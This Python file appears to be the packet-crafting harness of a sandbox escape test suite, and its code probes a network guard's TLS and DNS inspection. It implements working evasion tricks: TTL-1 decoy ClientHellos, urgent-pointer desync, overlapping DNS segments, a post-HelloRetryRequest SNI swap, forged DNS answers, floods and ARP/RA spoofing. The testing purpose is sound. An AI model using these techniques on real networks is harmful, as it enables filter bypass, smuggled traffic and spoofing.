    good, evil = tls_client_hello(a.good), tls_client_hello(a.evil)
    isn = random.randrange(1 << 20, 1 << 31)
    if a.scenario in ("ttl1-plain", "ttl1-hello"):
        if not p.handshake(isn):
            print("no SYN-ACK; " + p.summary())
            return
        first = b"X" if a.scenario == "ttl1-plain" else good
        # judged at the gateway, then dropped there: TTL / hop limit 1
        p.send("PA", isn + 1, p.rcv, first, ttl=1)
        p.recv(0.5)
        p.send("PA", isn + 1, p.rcv, evil)
        p.recv(1.5)
        print("handshake ok; %s" % p.summary())
    elif a.scenario == "alert":
        # a TLS record that is not a handshake (a warning alert, which a
        # TLS server may skip before the ClientHello), then the ClientHello
        if not p.handshake(isn):
            print("no SYN-ACK; " + p.summary())
            return
        alert = b"\x15\x03\x01\x00\x02\x01\x5a"  # warning, user_canceled
        p.send("PA", isn + 1, p.rcv, alert)
        p.recv(0.5)
        p.send("PA", isn + 1 + len(alert), p.rcv, evil)
        p.recv(1.5)
        print("handshake ok; %s" % p.summary())
    elif a.scenario == "urg-ack":
        # issue 30: a bare ACK moving the urgent pointer onto the next byte
        # (Linux: the byte before seq + urp), then "X" and the ClientHello
        # in one segment: judged "not TLS" by its first byte, while a
        # server without SO_OOBINLINE takes the "X" out and reads the rest
        if not p.handshake(isn):
            print("no SYN-ACK; " + p.summary())
            return
        p.send("AU", isn + 1, p.rcv, urp=1)
        p.recv(0.3)
        p.send("PA", isn + 1, p.rcv, b"X" + evil)
        p.recv(1.5)
        print("handshake ok; %s" % p.summary())
    elif a.scenario == "syn2":
        # a first SYN that never arrives, then another ISN the server takes
        # (a little before the first: conntrack's window still holds both)
        p.send("S", isn, ttl=1)
        p.recv(0.3)
        isn2 = isn - 10
        if p.handshake(isn2):
            print("second SYN answered by the server", end="; ")
        # bytes "already let through" at the first ISN (an unfinished
        # record: the old engine waited for more), dropped at the gateway
        prefix = b"\x16\x03\x01\x07\xd0" + b"\0" * 1000
        p.send("PA", isn + 1, getattr(p, "rcv", 0), prefix, ttl=1)
        p.recv(0.3)
        p.send("PA", isn2 + 1, getattr(p, "rcv", 0), evil)
        p.recv(1.5)
        print(p.summary())
    elif a.scenario in ("resyn", "resyn-old"):
        held_resyn(p, isn, good, evil, a.scenario == "resyn-old")
    elif a.scenario.startswith("ack-"):
        held_bare_ack(p, isn, a.scenario[4:])
    elif a.scenario in ("srv-ack", "srv-ack-plain"):
        held_server_ack(p, isn, good if a.scenario == "srv-ack" else b"GET / HTTP/1.0\r\n", evil)
    else:
        sys.exit("craft: unknown scenario " + a.scenario)


def held_resyn(p, isn, good, evil, old_space):
    """A connection promoted on the server's first bytes, reset, then at
    once (within the promoted entry's grace) a SYN with another ISN on the
    same addresses and ports, as a client reusing its port does: then
    either the ClientHello again in the new connection's space, or (the
    attack) another name's in the first connection's space."""
    if not p.handshake(isn):
        print("no SYN-ACK; " + p.summary())
        return
    p.send("PA", isn + 1, p.rcv, good)
    end = time.time() + 3
    while time.time() < end and not any(n for fl, _, _, n in p.seen if not fl & 0x02):
        p.recv(0.05)
    first = sum(n for fl, _, _, n in p.seen if not fl & 0x02)
    print("first connection: data bytes %d" % first, end="; ")
    p.send("RA", isn + 1 + len(good), p.rcv)
    old_rcv, mark = p.rcv, len(p.seen)
    isn2 = (isn + (1 << 30)) & 0xFFFFFFFF
    if not p.handshake(isn2):
        print("second SYN not answered; " + p.summary())
        return
    print("second SYN answered by the server", end="; ")
    if old_space:
        p.send("PA", isn + 1 + len(good), old_rcv, evil)
    else:
        p.send("PA", isn2 + 1, p.rcv, good)
    p.recv(1.5)
    second = sum(n for fl, _, _, n in p.seen[mark:] if not fl & 0x02)
    print("second connection: data bytes %d, in all: %s" % (second, p.summary()))


def held_bare_ack(p, isn, variant):
    """A handshake on a held flow, then one segment shaped `variant` (the
    ruleset lets a held flow's bare ACKs past the queue: docs/engine.md,
    "Held flows: what is queued"), then a RST. Prints the highest sequence
    number the server acknowledged, relative to isn + 1: 0 means it took no
    byte of the flow into its stream."""
    if not p.handshake(isn):
        print("no SYN-ACK; " + p.summary())
        return
    seq, ack = isn + 1, p.rcv
    opts, data, fl, urp, res, ipopt, trail, dstopts = b"", b"", 0x10, 0, 0, b"", b"", 0
    if variant == "none":
        fl = None
    elif variant == "plain":
        pass
    elif variant == "ts":  # what Linux sends: NOP NOP timestamps
        opts = b"\x01\x01\x08\x0a" + struct.pack("!II", 12345, 0)
    elif variant == "opts":  # 12 bytes of an experimental option: data, not stream bytes
        opts = b"\xfe\x0c" + b"EXFILTRATE"
    elif variant == "data":  # ACK alone, one byte
        data = b"X"
    elif variant == "urp":  # no URG flag, urgent pointer 1 (H2a)
        urp = 1
    elif variant == "psh":
        fl = 0x18
    elif variant == "ece":
        fl = 0x50
    elif variant == "res":  # a reserved header bit
        res = 0x02
    elif variant == "ipopt":  # IPv4 options: NOP NOP NOP EOL
        ipopt = b"\x01\x01\x01\x00"
    elif variant == "trail":  # bytes in the frame past the IP length
        trail = b"TRAILING"
    elif variant == "dstopts":  # IPv6 destination options header
        dstopts = 8
    else:
        sys.exit("craft: unknown bare-ack variant " + variant)
    if fl is not None:
        off = (20 + len(opts)) // 4
        h = struct.pack("!HHIIBBHHH", p.sport, p.dport, seq & 0xFFFFFFFF, ack, off << 4 | res,
                        fl, 65535, 0, urp) + opts
        seg = h + data
        c = l4sum(p.src, p.dst, 6, seg)
        seg = seg[:16] + struct.pack("!H", c) + seg[18:]
        if p.v6:
            pkt = ipv6(p.src, p.dst, 60, ipv6_dstopts(6, dstopts) + seg) if dstopts else \
                ipv6(p.src, p.dst, 6, seg)
        elif ipopt:
            hl = 20 + len(ipopt)
            ih = struct.pack("!BBHHHBBH4s4s", 0x40 | hl // 4, 0, hl + len(seg),
                             random.randrange(65536), 0, 64, 6, 0, socket.inet_aton(p.src),
                             socket.inet_aton(p.dst)) + ipopt
            pkt = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:] + seg
        else:
            pkt = ipv4(p.src, p.dst, 6, seg)
        p.l2.ip(pkt + trail)
    p.recv(0.5)
    top = max([(s[2] - (isn + 1)) & 0xFFFFFFFF for s in p.seen if s[0] & 0x10] or [0])
    p.send("R", seq)
    print("variant %s; server acknowledged %d bytes; %s" % (variant, top, p.summary()))


def held_server_ack(p, isn, first, evil):
    """The server's bare ACKs of a held flow (the ruleset lets them past the
    queue once the ClientHello was judged as TLS: docs/engine.md, "Held
    flows: what is queued"). A handshake, the first bytes (a ClientHello,
    or plain text: judged "not TLS"), 4 bytes past them (passed unjudged,
    H12), then, once the server's bare ACK of all of it came (it covers
    more than the judged bytes; a server that reads and never answers),
    other bytes where the judged ones are: the guard must still refuse
    them (the flow is not promoted on a bare ACK it never saw). Prints
    what the server acknowledged and the resets the sandbox got."""
    if not p.handshake(isn):
        print("no SYN-ACK; " + p.summary())
        return
    more = b"MORE"
    end = (isn + 1 + len(first) + len(more)) & 0xFFFFFFFF
    p.send("PA", isn + 1, p.rcv, first)
    p.send("PA", isn + 1 + len(first), p.rcv, more)
    bare = False
    deadline = time.time() + 3
    while not bare and time.time() < deadline:
        for fl, _, ack, n in p.recv(0.2):
            bare = bare or (fl == 0x10 and n == 0 and ack == end)
    p.send("PA", isn + 1, p.rcv, evil)
    p.recv(0.5)
    rst = sum(1 for fl, _, _, _ in p.seen if fl & 0x04)
    print("server bare ACK of the judged bytes and 4 more: %s; resets after the other bytes: %d; "
          "%s" % ("yes" if bare else "no", rst, p.summary()))


def dns_msg(name, ident, options=b""):
    """A query for name's A record (EDNS with options when given)."""
    ar, extra = (1, opt_rr(options)) if options else (0, b"")
    q = qname(name) + struct.pack("!HH", 1, 1)
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, ar) + q + extra


def framed(msg):
    return struct.pack("!H", len(msg)) + msg


def cmd_dns_overlap(a):
    """Issue 30: two whole allowed queries over TCP, the second sent at a
    sequence number inside the first. The receiver keeps the first bytes
    where they overlap, so it frames the second one's tail (the last 40
    bytes, a well-formed EDNS cookie) as the next message: a query for
    a.evil. --scenario same sends the first query again unchanged (a
    retransmission), then a second query in order."""
    p = TcpPeer(a)
    isn = random.randrange(1 << 20, 1 << 31)
    if not p.handshake(isn):
        print("no SYN-ACK; " + p.summary())
        return
    first = framed(dns_msg(a.name, 0x1111, struct.pack("!HH", 12, 64) + b"\0" * 64))
    if a.scenario == "overlap":
        tail = framed(dns_msg(a.evil, 0x2222))
        if len(tail) > 40:
            sys.exit("craft: --evil too long for a 40-byte cookie")
        cookie = b"c" * (40 - len(tail)) + tail
        second = framed(dns_msg(a.name, 0x3333, struct.pack("!HH", 10, 40) + cookie))
        # second's last len(tail) bytes land just past first's end
        at = len(first) - (len(second) - len(tail))
        if at <= 0:
            sys.exit("craft: the second query does not start inside the first")
        p.send("PA", isn + 1, p.rcv, first)
        p.recv(0.5)
        p.send("PA", isn + 1 + at, p.rcv, second)
        p.recv(1.5)
    elif a.scenario == "same":
        second = framed(dns_msg(a.name, 0x4444))
        irs = (p.rcv - 1) & 0xFFFFFFFF

        def acked(got, end):
            # acknowledge the answers (else the resolver sends the first
            # again, and holds the next one behind it)
            for fl, seq, _, n in got:
                if n:
                    p.rcv = max(p.rcv - irs, (seq + n - irs) & 0xFFFFFFFF) + irs
            p.rcv &= 0xFFFFFFFF
            p.send("A", end, p.rcv)

        p.send("PA", isn + 1, p.rcv, first)
        acked(p.recv(0.5), isn + 1 + len(first))
        p.send("PA", isn + 1, p.rcv, first)  # the same bytes again
        acked(p.recv(0.3), isn + 1 + len(first))
        p.send("PA", isn + 1 + len(first), p.rcv, second)
        acked(p.recv(1.0), isn + 1 + len(first) + len(second))
    elif a.scenario == "unlogged":
        # Sent while logd takes no record, then sent again (as the
        # sandbox's TCP would) while it still takes none, and once more
        # after --go exists (logd back): says how the server answered.
        def phase(what):
            if a.progress:
                with open(a.progress, "a") as f:
                    f.write(what + "\n")

        p.send("PA", isn + 1, p.rcv, first)
        p.recv(0.5)
        p.send("PA", isn + 1, p.rcv, first)
        p.recv(1.0)
        phase("resent " + p.summary())
        end = time.time() + 20
        while a.go and not os.path.exists(a.go) and time.time() < end:
            time.sleep(0.05)
        p.send("PA", isn + 1, p.rcv, first)
        p.recv(1.5)
        phase("done")
    else:
        sys.exit("craft: unknown scenario " + a.scenario)
    answers = len(set(seq for fl, seq, _, n in p.seen if n and not fl & 0x04))
    print("answers %d; %s" % (answers, p.summary()))


def fake_answer(name, ident, addr):
    """A whole answer to ident's query for name's A record: addr."""
    q = qname(name) + struct.pack("!HH", 1, 1)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(addr)
    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + q + rr


def cmd_dns_answer_split(a):
    """The resolver's direction of DNS over TCP framed by segments: a
    connection whose SYN advertises --mss, then (once --go exists) two
    queries in one segment: --carrier's HTTPS record (whose bytes hold,
    where the resolver's segments part, a whole framed answer to the
    second query) and --name's A record (ID 0x5a5a). Prints the offset and
    length of each answer segment that reached us, in order of arrival;
    acknowledges only bytes in order."""
    p = TcpPeer(a)
    isn = random.randrange(1 << 20, 1 << 31)
    want = (isn + 1) & 0xFFFFFFFF
    mss = b"\x02\x04" + struct.pack("!H", a.mss)
    answered = lambda s: s[0] & 0x04 or (s[0] & 0x12 == 0x12 and s[2] == want)
    ok = False
    for wait in (1, 2, 4):
        p.send("S", isn, options=mss)
        for fl, seq, ack, _ in p.recv(wait, until=answered):
            if fl & 0x12 == 0x12 and ack == want:
                p.rcv = (seq + 1) & 0xFFFFFFFF
                p.send("A", isn + 1, p.rcv)
                ok = True
            break
        if ok:
            break
    if not ok:
        print("no SYN-ACK; " + p.summary())
        return
    irs = (p.rcv - 1) & 0xFFFFFFFF
    if a.progress:
        with open(a.progress, "w") as f:
            f.write("open\n")
    end = time.time() + 30
    while a.go and not os.path.exists(a.go) and time.time() < end:
        time.sleep(0.05)
    q1 = struct.pack("!HHHHHH", 0x1b1b, 0x0100, 1, 0, 0, 0) + qname(a.carrier) + \
        struct.pack("!HH", 65, 1)
    q2 = dns_msg(a.name, 0x5A5A)
    qs = framed(q1) + framed(q2)
    # one message a segment (the guard judges one per packet), each sent
    # again once, as the sandbox's TCP would when no ACK came
    for _ in range(2):
        p.send("PA", isn + 1, p.rcv, framed(q1))
        p.send("PA", isn + 1 + len(framed(q1)), p.rcv, framed(q2))
        p.recv(0.3)
    got = []
    for fl, seq, _, n in p.seen:
        if n:
            got.append(((seq - irs - 1) & 0xFFFFFFFF, n))
    stop = time.time() + a.wait
    while time.time() < stop:
        for fl, seq, _, n in p.recv(0.2):
            if n:
                got.append(((seq - irs - 1) & 0xFFFFFFFF, n))
        # acknowledge what came in order, as a receiver does
        edge = p.rcv - irs - 1
        for off, n in sorted(got):
            if off <= edge < off + n:
                edge = off + n
        p.rcv = (irs + 1 + edge) & 0xFFFFFFFF
        p.send("A", isn + 1 + len(qs), p.rcv)
    print("answer segments %s; in order to %d; %s" % (
        " ".join("%d+%d" % g for g in got), (p.rcv - irs - 1) & 0xFFFFFFFF, p.summary()))


def cmd_oob_tls(a):
    """Issue 30 with the sandbox's own TCP: one byte sent urgent
    (MSG_OOB: URG, urgent pointer 1), a pause, then a real TLS handshake
    naming a.name and a request for it. Prints the port it used and what
    the server answered, or why nothing."""
    import ssl
    fam = socket.AF_INET6 if is6(a.dst) else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        s.connect((a.dst, a.dport))
        print("sport %d" % s.getsockname()[1], end="; ")
        s.send(b"X", socket.MSG_OOB)
        time.sleep(a.wait)
        print("served: %s" % tls_get(s, a.name))
    except (OSError, ssl.SSLError) as e:
        print("not served: %s" % (type(e).__name__))


def cmd_oob_server(a):
    """A TLS server (upstream side) whose TCP keeps urgent data in the
    stream when --inline (SO_OOBINLINE), unlike nginx: what it reads first,
    the SNI and the outcome of each connection go to --log, one line each."""
    import ssl
    fam = socket.AF_INET6 if is6(a.listen) else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((a.listen, a.port))
    ls.listen(16)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(a.cert, a.key)
    if a.group:
        # one group the client does not guess first: a HelloRetryRequest
        ctx.set_ecdh_curve(a.group)
    sni = {}
    names = []

    def on_sni(obj, name, c):  # called for every ClientHello (a second one after an HRR too)
        sni["name"] = name
        names.append(name or "-")
    ctx.sni_callback = on_sni
    with open(a.log, "a") as f:
        print("listening", file=f, flush=True)
    while True:
        c, peer = ls.accept()
        c.settimeout(3)
        if a.inline:
            c.setsockopt(socket.SOL_SOCKET, socket.SO_OOBINLINE, 1)
        sni.clear()
        del names[:]
        line = "peer %s inline %d" % (peer[1], 1 if a.inline else 0)
        try:
            first = c.recv(8, socket.MSG_PEEK)
            line += " first %s" % first[:8].hex()
            t = ctx.wrap_socket(c, server_side=True)
            t.recv(4096)
            t.sendall(("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\noob-server %s ok\n" %
                       sni.get("name", "-")).encode())
            line += " sni %s served" % sni.get("name", "-")
            t.close()
        except (OSError, ssl.SSLError) as e:
            line += " sni %s failed %s" % (sni.get("name", "-"), type(e).__name__)
            c.close()
        line += " names %s" % ",".join(names)
        with open(a.log, "a") as f:
            print(line, file=f, flush=True)


REC_LOCK = None  # record-server: one line at a time in its log


def record_conn(c, peer, ctx, inline, idle, log):
    """One connection of record-server: every byte the application read
    (recv, so without SO_OOBINLINE the kernel has taken urgent data out)
    goes to the TLS library through a memory BIO and to the log line, with
    the server name OpenSSL selected."""
    import ssl
    sel = []
    c.settimeout(idle)
    if inline:
        c.setsockopt(socket.SOL_SOCKET, socket.SO_OOBINLINE, 1)
    ctx2 = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx2.load_cert_chain(*ctx)
    ctx2.sni_callback = lambda obj, name, c_: sel.append(name or "")
    inb, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx2.wrap_bio(inb, outb, server_side=True)
    got, end = b"", "closed"
    while True:
        try:
            b = c.recv(4096)
        except socket.timeout:
            end = "idle"
            break
        except OSError as e:
            end = type(e).__name__
            break
        if not b:
            break
        got += b
        inb.write(b)
        try:
            t.do_handshake()
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLError:
            pass  # bytes go on being read and recorded: the record is what was read
        out = outb.read()
        if out:
            try:
                c.sendall(out)
            except OSError:
                pass
    c.close()
    with REC_LOCK:
        with open(log, "a") as f:
            print("peer %s inline %d sni %s end %s read %s" % (
                peer[1], 1 if inline else 0, sel[0] if sel else "-", end, got.hex() or "-"),
                file=f, flush=True)


def cmd_record_server(a):
    """The differential test's receiver (tests/escape/tcp_oracle.py): on
    each address of --listen, port --port; SO_OOBINLINE when --inline. One
    line per connection, when it ends, in --log: the peer's port, the server
    name selected and every byte read."""
    import threading
    global REC_LOCK
    REC_LOCK = threading.Lock()
    socks = []
    for addr in a.listen.split(","):
        ls = socket.socket(socket.AF_INET6 if is6(addr) else socket.AF_INET, socket.SOCK_STREAM)
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.bind((addr, a.port))
        ls.listen(64)
        socks.append(ls)
    with open(a.log, "a") as f:
        print("listening %d" % a.port, file=f, flush=True)
    while True:
        r, _, _ = select.select(socks, [], [])
        for ls in r:
            c, peer = ls.accept()
            threading.Thread(target=record_conn, daemon=True,
                             args=(c, peer, (a.cert, a.key), a.inline, a.idle, a.log)).start()
def cmd_hrr_tls(a):
    """A TLS client over the sandbox's own TCP that, when the server answers
    its ClientHello with a HelloRetryRequest, sends a second ClientHello
    naming --second instead of --name (same length: only the name
    differs). Prints its source port, the flights it sent and how it
    ended."""
    import ssl
    s = socket.create_connection((a.dst, a.dport), timeout=a.timeout)
    sport = s.getsockname()[1]
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(i, o, server_hostname=a.name)
    flights, outcome = 0, "no answer"
    try:
        for _ in range(8):
            try:
                t.do_handshake()
                outcome = "handshake done"
                break
            except ssl.SSLWantReadError:
                pass
            d = o.read()
            if d:
                flights += 1
                if flights == 2 and a.second:
                    d = d.replace(a.name.encode(), a.second.encode())
                s.sendall(d)
            r = s.recv(16384)
            if not r:
                outcome = "closed"
                break
            i.write(r)
    except (OSError, ssl.SSLError) as e:
        outcome = type(e).__name__
    print("sport %d; flights %d; %s" % (sport, flights, outcome))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--gw-mac")
    p.add_argument("--src-mac")
    p.add_argument("--src")
    sub = p.add_subparsers(dest="cmd", required=True)

    t = sub.add_parser("tcp")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--sport", type=int, default=0)
    t.add_argument("--flags", default="S")
    t.add_argument("--data", default="")
    t.add_argument("--tfo", action="store_true")
    t.add_argument("--opt-len", type=int, default=0)
    t.add_argument("--dstopts", type=int, default=0)
    t.add_argument("--count", type=int, default=1)

    t = sub.add_parser("proto")
    t.add_argument("--dst", required=True)
    t.add_argument("--proto", type=int, required=True)
    t.add_argument("--data", default="portcullis-escape-probe")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("frag")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--kind", required=True)
    t.add_argument("--data", default="")

    t = sub.add_parser("icmp")
    t.add_argument("--dst", required=True)
    t.add_argument("--type", type=int, default=8)
    t.add_argument("--data", default="")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("icmp-error")
    t.add_argument("--dst", required=True)
    t.add_argument("--inner-src", required=True)
    t.add_argument("--inner-sport", type=int, required=True)
    t.add_argument("--inner-dport", type=int, required=True)
    t.add_argument("--data", default="tunnel-in-icmp-error")

    t = sub.add_parser("vlan")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--vid", type=int, default=5)
    t.add_argument("--tpid", default="0x8100")
    t.add_argument("--qinq", action="store_true")
    t.add_argument("--data", default="vlan-probe")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("ether")
    t.add_argument("--dst-mac", required=True)
    t.add_argument("--ethertype", required=True)
    t.add_argument("--data", default="raw-frame-probe")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("arp")
    t.add_argument("--sender-ip", required=True)
    t.add_argument("--sender-mac")
    t.add_argument("--target-ip")
    t.add_argument("--dst-mac")
    t.add_argument("--op", type=int, default=2)
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("na")
    t.add_argument("--target", required=True)
    t.add_argument("--tlla")
    t.add_argument("--dst", default="ff02::1")
    t.add_argument("--solicited", action="store_true")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("ra")
    t.add_argument("--prefix", required=True)
    t.add_argument("--lifetime", type=int, default=1800)
    t.add_argument("--dst", default="ff02::1")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("udp")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--sport", type=int, default=0)
    t.add_argument("--data", default="udp-probe")
    t.add_argument("--quic", action="store_true")
    t.add_argument("--count", type=int, default=3)

    t = sub.add_parser("dns")
    t.add_argument("--server", required=True)
    t.add_argument("--name", default="api.github.test")
    t.add_argument("--name2")
    t.add_argument("--qtype", default="A")
    t.add_argument("--variant", default="plain")
    t.add_argument("--port", type=int, default=53)
    t.add_argument("--tcp", action="store_true")
    t.add_argument("--split", action="store_true")
    t.add_argument("--double", action="store_true")
    t.add_argument("--oob", action="store_true")
    t.add_argument("--timeout", type=float, default=2)
    t.add_argument("--sport", type=int, default=0)
    t.add_argument("--id", type=int)
    t.add_argument("--edns", action="store_true")

    t = sub.add_parser("dns-answer")
    t.add_argument("--to", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--id", type=int, required=True)
    t.add_argument("--name", required=True)
    t.add_argument("--addr", required=True)
    t.add_argument("--resolver", default="198.51.100.53")
    t.add_argument("--count", type=int, default=1)

    t = sub.add_parser("synflood")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, required=True)
    t.add_argument("--count", type=int, required=True)

    t = sub.add_parser("dnsflood")
    t.add_argument("--server", required=True)
    t.add_argument("--count", type=int, required=True)
    t.add_argument("--suffix", default="flood.test")
    t.add_argument("--qtype", default="A")
    t.add_argument("--variant", default="plain")
    t.add_argument("--pace", type=int, default=0)

    t = sub.add_parser("held")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, default=443)
    t.add_argument("--sport", type=int, required=True)
    t.add_argument("--scenario", required=True)
    t.add_argument("--good", default="cdn-good.test")
    t.add_argument("--evil", default="cdn-evil.test")

    t = sub.add_parser("dns-overlap")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, default=53)
    t.add_argument("--sport", type=int, required=True)
    t.add_argument("--scenario", required=True)
    t.add_argument("--name", default="api.github.test")
    t.add_argument("--evil", default="ov.evil.test")
    t.add_argument("--progress")  # unlogged: a line per phase
    t.add_argument("--go")  # unlogged: the last resend waits for this file

    t = sub.add_parser("dns-answer-split")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, default=53)
    t.add_argument("--sport", type=int, required=True)
    t.add_argument("--mss", type=int, required=True)
    t.add_argument("--carrier", required=True)
    t.add_argument("--name", required=True)
    t.add_argument("--progress")
    t.add_argument("--go")
    t.add_argument("--wait", type=float, default=3)

    t = sub.add_parser("oob-server")
    t.add_argument("--listen", required=True)
    t.add_argument("--port", type=int, required=True)
    t.add_argument("--cert", required=True)
    t.add_argument("--key", required=True)
    t.add_argument("--log", required=True)
    t.add_argument("--inline", action="store_true")
    t.add_argument("--group", default="")

    t = sub.add_parser("hrr-tls")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, default=443)
    t.add_argument("--name", required=True)
    t.add_argument("--second", default="")
    t.add_argument("--timeout", type=float, default=3)

    t = sub.add_parser("record-server")
    t.add_argument("--listen", required=True)
    t.add_argument("--port", type=int, required=True)
    t.add_argument("--cert", required=True)
    t.add_argument("--key", required=True)
    t.add_argument("--log", required=True)
    t.add_argument("--inline", action="store_true")
    t.add_argument("--idle", type=float, default=1.5)

    t = sub.add_parser("oob-tls")
    t.add_argument("--dst", required=True)
    t.add_argument("--dport", type=int, default=443)
    t.add_argument("--name", required=True)
    t.add_argument("--wait", type=float, default=0.5)

    a = p.parse_args()
    globals()["cmd_" + a.cmd.replace("-", "_")](a)


if __name__ == "__main__":
    main()
